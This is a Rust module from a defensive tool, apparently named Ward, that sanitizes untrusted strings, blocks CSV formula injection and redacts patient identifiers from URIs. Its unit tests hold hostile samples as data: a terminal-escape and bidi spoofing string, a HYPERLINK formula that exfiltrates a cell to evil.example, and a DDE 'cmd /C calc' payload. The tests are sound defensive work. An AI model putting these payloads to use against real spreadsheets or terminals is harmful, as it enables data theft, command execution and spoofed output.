//! Turning attacker-controlled bytes into bounded, printable strings.
//!
//! Every string that leaves an analyzer goes through [`bounded`]: it is cut to a
//! maximum length, decoded as UTF-8 with Latin-1 fallback (HL7 on the wire is
//! often Latin-1), and stripped of control characters, so a record can be
//! printed, logged or stored without further checks.
//!
//! Strings from files (SBOMs, CMMS exports, feeds) and from the database go
//! through [`clean`] (one string) or a [`CleanWriter`] (a whole output
//! stream) at the output boundary: the same rules — no C0/C1 controls (ESC
//! starts terminal escape sequences), no bidi or other invisible format
//! characters ([`is_hidden`]) — so what a terminal, a CSV cell, an HTML page
//! or an SVG shows is what the bytes say.

/// Default cap for names, banners and header values.
pub const MAX_FIELD: usize = 256;

/// Decodes at most `max` bytes of `raw` into a printable string.
///
/// Control characters (including CR, LF, ESC) become `\u{fffd}`-free spaces or
/// are dropped, so the result is single-line. Trailing and leading ASCII
/// whitespace is trimmed.
pub fn bounded(raw: &[u8], max: usize) -> String {
    let raw = &raw[..raw.len().min(max)];
    // Fast path, the common case: printable ASCII only (nothing to decode,
    // replace or drop), so the result is the trimmed input itself.
    if raw.iter().all(|&b| (0x20..0x7f).contains(&b)) {
        let start = raw.iter().position(|&b| b != b' ').unwrap_or(raw.len());
        let end = raw
            .iter()
            .rposition(|&b| b != b' ')
            .map_or(start, |i| i + 1);
        return String::from_utf8_lossy(&raw[start..end]).into_owned();
    }
    let mut out = String::with_capacity(raw.len());
    match std::str::from_utf8(raw) {
        Ok(s) => push_clean(&mut out, s.chars()),
        Err(e) if e.error_len().is_none() => {
            // Truncation cut a multi-byte character: keep the valid prefix.
            let valid = &raw[..e.valid_up_to()];
            push_clean(
                &mut out,
                std::str::from_utf8(valid).unwrap_or_default().chars(),
            );
        }
        Err(_) => push_clean(&mut out, raw.iter().map(|&b| b as char)),
    }
    let trimmed = out.trim();
    if trimmed.len() == out.len() {
        out
    } else {
        trimmed.to_string()
    }
}

/// [`bounded`] with [`MAX_FIELD`].
pub fn field(raw: &[u8]) -> String {
    bounded(raw, MAX_FIELD)
}

/// [`field`], or `None` when the result is empty.
pub fn non_empty(raw: &[u8]) -> Option<String> {
    let s = field(raw);
    (!s.is_empty()).then_some(s)
}

fn push_clean(out: &mut String, chars: impl Iterator<Item = char>) {
    for c in chars {
        if c == '\t' {
            out.push(' ');
        } else if !is_hidden(c) {
            out.push(c);
        }
    }
}

/// Characters never printed from untrusted text: C0 and C1 controls (ESC,
/// CSI, CR, LF, ...), DEL, the bidirectional controls that reorder what a
/// reader sees (U+061C, U+200E/F, U+202A–U+202E, U+2066–U+2069) and the other
/// invisible format characters (zero-width spaces and joiners, word joiner,
/// invisible operators, BOM, soft hyphen, interlinear annotation, tag
/// characters, ...), which hide or fake text.
pub fn is_hidden(c: char) -> bool {
    // ASCII, nearly all of any text: of it only the controls are hidden,
    // answered without testing the ranges below.
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    c.is_control()
        || matches!(
            c,
            '\u{00AD}'
                | '\u{034F}'
                | '\u{061C}'
                | '\u{115F}'
                | '\u{1160}'
                | '\u{17B4}'
                | '\u{17B5}'
                | '\u{180B}'..='\u{180F}'
                | '\u{200B}'..='\u{200F}'
                | '\u{2028}'..='\u{202E}'
                | '\u{2060}'..='\u{206F}'
                | '\u{3164}'
                | '\u{FE00}'..='\u{FE0F}'
                | '\u{FEFF}'
                | '\u{FFA0}'
                | '\u{FFF0}'..='\u{FFFB}'
                | '\u{E0000}'..='\u{E0FFF}'
        )
}

/// `s` without [`is_hidden`] characters, tabs as spaces: one printable line.
/// Borrows when there is nothing to remove (the common case).
pub fn clean(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.chars().any(is_hidden) {
        return s.into();
    }
    let mut out = String::with_capacity(s.len());
    push_clean(&mut out, s.chars());
    out.into()
}

/// [`clean`] for multi-line text: line feeds are kept, every other hidden
/// character is removed (CR included, so a line cannot be overwritten).
pub fn clean_lines(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.chars().any(|c| c != '\n' && is_hidden(c)) {
        return s.into();
    }
    s.split('\n')
        .map(|l| clean(l).into_owned())
        .collect::<Vec<_>>()
        .join("\n")
        .into()
}

/// One CSV cell as Ward writes it: [`clean`], and neutralised for
/// spreadsheets (OWASP "CSV injection"): a cell that starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (also after leading spaces) is a
/// formula to Excel and LibreOffice, so it gets a leading `'` and is shown
/// as text. Every CSV writer in Ward passes each cell through this.
pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
    let cleaned = clean(s);
    let formula = s.starts_with(['\t', '\r'])
        || cleaned.trim_start().starts_with([
            '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
        ]);
    if formula {
        format!("'{cleaned}").into()
    } else {
        cleaned
    }
}

/// A writer that passes text through [`clean_lines`] (line feeds and tabs
/// kept): put it in front of the terminal or an output file and nothing
/// written through it can carry an escape sequence or a bidi control,
/// whichever path produced the text. Bytes that are not UTF-8 are dropped;
/// a character split across two writes is reassembled.
pub struct CleanWriter<W: std::io::Write> {
    inner: W,
    /// The start of a UTF-8 sequence cut by the end of the previous write.
    pending: Vec<u8>,
}

impl<W: std::io::Write> CleanWriter<W> {
    /// Wraps `inner`.
    pub fn new(inner: W) -> Self {
        CleanWriter {
            inner,
            pending: Vec::new(),
        }
    }

    /// The wrapped writer.
    pub fn into_inner(self) -> W {
        self.inner
    }

    fn emit(&mut self, s: &str) -> std::io::Result<()> {
        // Newlines and tabs lay output out; every other hidden character goes.
        let dropped = |c: char| c != '\n' && c != '\t' && is_hidden(c);
        if !s.chars().any(dropped) {
            return self.inner.write_all(s.as_bytes());
        }
        let mut out = String::with_capacity(s.len());
        out.extend(s.chars().filter(|&c| !dropped(c)));
        self.inner.write_all(out.as_bytes())
    }
}

impl<W: std::io::Write> std::io::Write for CleanWriter<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let mut data = std::mem::take(&mut self.pending);
        let bytes: &[u8] = if data.is_empty() {
            buf
        } else {
            data.extend_from_slice(buf);
            &data
        };
        let mut rest = bytes;
        loop {
            match std::str::from_utf8(rest) {
                Ok(s) => {
                    self.emit(s)?;
                    break;
                }
                Err(e) => {
                    let (good, bad) = rest.split_at(e.valid_up_to());
                    self.emit(std::str::from_utf8(good).unwrap_or_default())?;
                    match e.error_len() {
                        Some(n) => rest = &bad[n..],
                        None => {
                            // Incomplete sequence at the end: wait for the rest.
                            self.pending = bad.to_vec();
                            break;
                        }
                    }
                }
            }
        }
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

#[cfg(test)]
mod clean_tests {
    use super::*;
    use std::io::Write;

    const HOSTILE: &str = "zlib\u{1b}[2J\u{1b}[H\u{1b}[32mverdict: PASS\u{1b}[0m\u{9b}31m \u{202E}fdp.exe\u{2066}x\u{2069}\u{200F}\u{061C}\u{200B}";

    #[test]
    fn clean_removes_escapes_and_bidi() {
        assert_eq!(clean(HOSTILE), "zlib[2J[H[32mverdict: PASS[0m31m fdp.exex");
        assert!(matches!(clean("plain é ü"), std::borrow::Cow::Borrowed(_)));
        assert_eq!(clean("a\tb\r\nc"), "a bc");
        assert_eq!(clean_lines("a\r\nb\u{202e}\n"), "a\nb\n");
        // The wire path applies the same rules.
        assert_eq!(bounded(HOSTILE.as_bytes(), 1000), clean(HOSTILE));
    }

    #[test]
    fn csv_cells_are_never_formulas() {
        for (raw, want) in [
            (
                "=HYPERLINK(\"http://evil.example/steal?d=\"&A2,\"Open\")",
                "'=HYPERLINK(\"http://evil.example/steal?d=\"&A2,\"Open\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "' =1"),
            ("\r=1", "'=1"),
            ("  =1", "'  =1"),
            ("\u{1b}=1", "'=1"),
            ("\u{FF1D}1", "'\u{FF1D}1"),
            ("ALARIS-PC-07", "ALARIS-PC-07"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(raw), want, "{raw:?}");
        }
    }

    #[test]
    fn of_ascii_exactly_the_controls_are_hidden() {
        for c in (0..0x80u8).map(char::from) {
            assert_eq!(is_hidden(c), c.is_control(), "{c:?}");
        }
    }

    #[test]
    fn writer_cleans_across_split_writes() {
        let mut w = CleanWriter::new(Vec::new());
        let bytes = format!("{HOSTILE}\nline\ttwo\n").into_bytes();
        // Every split point, including inside multi-byte characters.
        for cut in 0..bytes.len() {
            let mut w2 = CleanWriter::new(Vec::new());
            w2.write_all(&bytes[..cut]).unwrap();
            w2.write_all(&bytes[cut..]).unwrap();
            assert_eq!(
                String::from_utf8(w2.into_inner()).unwrap(),
                "zlib[2J[H[32mverdict: PASS[0m31m fdp.exex\nline\ttwo\n"
            );
        }
        w.write_all(b"ok\xff\x1b!").unwrap();
        assert_eq!(w.into_inner(), b"ok!");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strips_controls_and_caps_length() {
        assert_eq!(bounded(b"ab\r\ncd\x1b[0m", 100), "abcd[0m");
        assert_eq!(bounded(b"abcdef", 3), "abc");
    }

    #[test]
    fn latin1_fallback() {
        assert_eq!(bounded(b"M\xfcller", 100), "M\u{fc}ller");
    }

    #[test]
    fn ascii_fast_path_matches_the_general_rules() {
        assert_eq!(bounded(b"  Apache/2.4  ", 100), "Apache/2.4");
        assert_eq!(bounded(b"   ", 100), "");
        assert_eq!(bounded(b"", 100), "");
        assert_eq!(bounded(b"a\tb ", 100), "a b");
        assert_eq!(bounded(b" \tx\t ", 100), "x");
        assert_eq!(bounded(b"abc  def", 5), "abc");
    }

    #[test]
    fn cut_multibyte_keeps_prefix() {
        assert_eq!(bounded("aé".as_bytes(), 2), "a");
    }
}

/// Marker that replaces a redacted value.
pub const REDACTED: &str = "*";

/// A URI with the values of its query parameters replaced by [`REDACTED`]
/// and any fragment dropped: `/orders?mrn=123&name=DOE` becomes
/// `/orders?mrn=*&name=*`. Query strings of clinical web applications carry
/// patient identifiers; the path and the parameter names are kept, as they
/// describe the application, not the patient.
pub fn redact_query(uri: &str) -> std::borrow::Cow<'_, str> {
    let uri = uri.split('#').next().unwrap_or(uri);
    let Some((path, query)) = uri.split_once('?') else {
        return uri.into();
    };
    let mut out = String::with_capacity(uri.len());
    out.push_str(path);
    out.push('?');
    for (i, param) in query.split('&').enumerate() {
        if i > 0 {
            out.push('&');
        }
        match param.split_once('=') {
            Some((k, v)) if !v.is_empty() => {
                out.push_str(k);
                out.push('=');
                out.push_str(REDACTED);
            }
            Some((k, _)) => {
                out.push_str(k);
                out.push('=');
            }
            // A bare value (`?12345`) may itself be an identifier.
            None if param.is_empty() => {}
            None => out.push_str(REDACTED),
        }
    }
    out.into()
}

/// A request target reduced to its shape: each path segment that is not a
/// plain route word is replaced by [`REDACTED`], and query values are
/// redacted ([`redact_query`]): `/patients/ZZPHI-DOE^JOHN-MRN424242/chart`
/// becomes `/patients/*/chart`. A route word is lower-case ASCII letters
/// with `-`, `_` or `.` (at most 32 bytes: `cgi-bin`, `status.asp`), or a
/// version (`v2`); anything with digits, capitals, separators or other
/// characters may be an identifier or a name, so only its place is kept.
pub fn path_shape(uri: &str) -> String {
    let uri = redact_query(uri);
    let (path, query) = match uri.split_once('?') {
        Some((p, q)) => (p, Some(q)),
        None => (uri.as_ref(), None),
    };
    let route_word = |s: &str| {
        (s.len() <= 32
            && s.bytes().next().is_some_and(|b| b.is_ascii_lowercase())
            && s.bytes()
                .all(|b| b.is_ascii_lowercase() || matches!(b, b'-' | b'_' | b'.')))
            || (s.len() <= 3
                && s.starts_with('v')
                && s.len() > 1
                && s[1..].bytes().all(|b| b.is_ascii_digit()))
    };
    let mut out = String::with_capacity(uri.len());
    for (i, seg) in path.split('/').enumerate() {
        if i > 0 {
            out.push('/');
        }
        if seg.is_empty() || route_word(seg) {
            out.push_str(seg);
        } else {
            out.push_str(REDACTED);
        }
    }
    if let Some(q) = query {
        out.push('?');
        out.push_str(q);
    }
    out
}

#[cfg(test)]
mod redact_tests {
    use super::*;

    #[test]
    fn paths_keep_only_their_shape() {
        for (raw, shape) in [
            (
                "/patients/ZZPHI-DOE^JOHN-MRN424242/chart",
                "/patients/*/chart",
            ),
            ("/cgi-bin/status.asp", "/cgi-bin/status.asp"),
            ("/api/v2/orders/12345?mrn=9&x=", "/api/v2/orders/*?mrn=*&x="),
            ("/DOE/JOHN", "/*/*"),
            ("/", "/"),
            ("", ""),
            ("*", "*"),
            ("http://host/a/B7", "*//host/a/*"),
        ] {
            assert_eq!(path_shape(raw), shape, "{raw}");
        }
    }

    #[test]
    fn query_values_are_redacted() {
        assert_eq!(redact_query("/a/b.html"), "/a/b.html");
        assert_eq!(
            redact_query("/orders?mrn=123&name=DOE^JOHN&x="),
            "/orders?mrn=*&name=*&x="
        );
        assert_eq!(redact_query("/p?1234567#frag"), "/p?*");
        assert_eq!(redact_query("/p#x?y=1"), "/p");
        assert_eq!(redact_query("/p?"), "/p?");
    }
}
